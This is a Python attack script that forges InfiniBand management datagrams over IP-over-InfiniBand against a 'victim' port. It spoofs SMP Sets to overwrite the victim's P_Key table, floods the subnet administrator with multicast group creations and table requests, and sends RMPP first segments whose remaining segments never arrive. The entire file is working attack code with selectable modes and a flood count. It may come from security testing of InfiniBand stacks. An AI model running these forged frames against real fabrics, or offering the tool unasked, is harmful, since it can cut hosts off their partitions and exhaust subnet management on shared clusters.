#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Forge management datagrams to an InfiniBand port, from the wire.

    ipoib_forger.py NETDEV MAC A B ATTACK [NUMBER]

A and B are the link addresses of both ib0s; the port at B is the victim, and NETDEV and MAC lead
to it. ATTACK:

smp        a Set of the P_Key table for QP0, in every form: of both SMP classes, with and without
           a GRH, as from A and as from B itself; NUMBER of them, or one of each form
smp-qp1    the same, for QP1
sa         NUMBER joins of as many groups, of a thousand if there are more, as from A
sa-own     likewise as from B itself, by turns with and without a GRH
sa-table   NUMBER requests for all groups
sa-segments  NUMBER first segments of requests whose others never come
"""

import struct
import sys

from ipoib_frames import Injector, Station
from sth import Header, Packet, deth
from sth.packet import INFINIBAND

UD_SEND_ONLY = 0x64
GSI_QKEY = 0x80010000
GRH, NO_GRH = 0xc001, 0x8001            # source ports (protocol.md, section 17)
SUBN_LID, SUBN_DIRECTED, SUBN_ADM = 0x01, 0x81, 0x03
GET, SET, GET_TABLE, GET_MULTI = 0x01, 0x02, 0x12, 0x14
PKEY_TABLE, MCMEMBER = 0x0016, 0x0038
# RMPP header of the first of several segments (IBA 13.6.2)
FIRST_SEGMENT = struct.pack(">BBBBII", 1, 1, 0x03, 0, 1, 1000)
# components that a creator of a group must determine (IBA 15.2.5.17.2)
CREATE = sum(1 << bit for bit in (0, 1, 2, 6, 7, 12, 13, 16))
FULL_MEMBER = 1
DISTINCT = 1000     # requests that are made; a flood repeats them


def mad(mgmt_class, method, attribute, number=0):
    """Return the header of a MAD (IBA 13.4.2)."""
    version = 2 if mgmt_class == SUBN_ADM else 1
    return struct.pack(">BBBBHHQHHI", 1, mgmt_class, version, method, 0, 0, 0x7000 + number,
                       attribute, 0, 0)


def smp(mgmt_class):
    """Return a Set of the P_Key table to 0x8666 in all places (IBA 14.2.1)."""
    start = mad(mgmt_class, SET, PKEY_TABLE)
    if mgmt_class == SUBN_DIRECTED:
        # zero hops, and permissive LIDs
        start = start + bytes(8) + struct.pack(">HH", 0xffff, 0xffff)
    return start.ljust(64, b"\0") + b"\x86\x66" * 32 + bytes(128)


def join(gid, number):
    """Return a Set of MCMemberRecord that creates a group of IP over InfiniBand."""
    mgid = bytes.fromhex("ff12401bffff0000") + struct.pack(">II", 0, 0x0f000000 + number)
    record = (mgid + gid + struct.pack(">IHBBHBBIBB", 0x80000b1b, 0, 0x84, 0, 0xffff, 0x83, 0x92,
                                       1, 0x20 | FULL_MEMBER, 0))
    return sa(SET, CREATE, record, number)


def sa(method, components, record, number, rmpp=bytes(12)):
    """Return a MAD of the subnet administration (IBA 15.2.1)."""
    return (mad(SUBN_ADM, method, MCMEMBER, number) + rmpp + bytes(8)
            + struct.pack(">HHQ", 0, 0, components) + record).ljust(256, b"\0")


class Forger(Injector):
    def frame(self, data, qpn, sport=GRH, source=None):
        """Return the frame of a MAD."""
        header = Header(UD_SEND_ONLY, qpn, 7, deth(GSI_QKEY if qpn else 0, qpn))
        packet = Packet(source or self.a.gid, self.b.gid, header.bytes() + data, sport=sport,
                        kind=INFINIBAND)
        return self.mac + self.sock.getsockname()[4] + b"\x86\xdd" + packet.bytes()

    def smps(self, qpn):
        return [self.frame(smp(mgmt_class), qpn, sport, source)
                for mgmt_class in (SUBN_LID, SUBN_DIRECTED) for sport in (GRH, NO_GRH)
                for source in (self.a.gid, self.b.gid)]

    def request(self, name, n):
        """Return the frame of the n-th request to the subnet administration."""
        if name == "sa":
            return self.frame(join(self.a.gid, n), 1)
        if name == "sa-own":
            return self.frame(join(self.b.gid, n), 1, NO_GRH if n % 2 else GRH, self.b.gid)
        if name == "sa-segments":
            return self.frame(sa(GET_MULTI, 0, b"", n, FIRST_SEGMENT), 1)
        return self.frame(sa(GET_TABLE, 0, b"", n), 1)

    def attack(self, name, number):
        if name in ("smp", "smp-qp1"):
            frames = self.smps(0 if name == "smp" else 1)
            number = number or len(frames)
        else:
            frames = [self.request(name, n) for n in range(min(number, DISTINCT))]
        for n in range(number):
            self.sock.send(frames[n % len(frames)])


def main():
    if len(sys.argv) < 6:
        sys.exit(__doc__)
    netdev, mac, a, b, attack = sys.argv[1:6]
    number = int(sys.argv[6]) if sys.argv[6:] else 0
    forger = Forger(netdev, bytes.fromhex(mac.replace(":", "")), Station.of(a), Station.of(b))
    forger.attack(attack, number)


if __name__ == "__main__":
    main()
